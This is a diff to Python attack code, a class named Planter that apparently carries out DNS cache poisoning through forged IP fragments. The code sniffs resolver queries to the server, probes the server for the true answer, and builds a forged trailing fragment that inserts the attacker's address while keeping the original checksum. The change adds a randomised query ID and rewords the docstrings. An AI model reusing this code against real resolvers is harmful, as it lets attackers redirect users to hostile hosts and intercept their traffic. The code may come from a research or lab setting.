@@ -53,7 +53,7 @@ class Planter:
         """Octets of the datagram in its first fragment."""
 
     def learn(self, other):
-        """A client asks about another name: it shows how the resolver asks, and which IDs the server is at. Then the
+        """A client asks about another name, which shows how the resolver asks and at which IDs the server is. Then the
         attacker asks the server as the resolver would, for the answer that it will change."""
         self.act.ask(RESOLVER, other)
         self.query = self.act.sniff(question_to(SERVER, other, "A"))
@@ -64,12 +64,13 @@ class Planter:
         end = packets.question_end(payload)
         with sock:
             sock.settimeout(guessing.ANSWER_SECONDS)
-            sock.sendto(payload[:12] + wire.name(self.name) + payload[end - 4:], (ipv4(SERVER), 53))
+            head = self.act.rng.randbytes(2) + payload[2:12]
+            sock.sendto(head + wire.name(self.name) + payload[end - 4:], (ipv4(SERVER), 53))
             self.truth = bytes(8) + sock.recv(guessing.LONGEST_MESSAGE)
         return int.from_bytes(answer[18:20], "big")
 
     def forged(self, begin):
-        """The end of the true datagram from an offset on with the attacker's address in it, and the sum of the whole."""
+        """The end of the true datagram from an offset on, with the attacker's address in it and the sum that it had."""
         forged = bytearray(self.truth)
         at = [offset + 12 for offset in records(self.truth) if offset + 12 >= begin]
         for offset in at[:-1]:
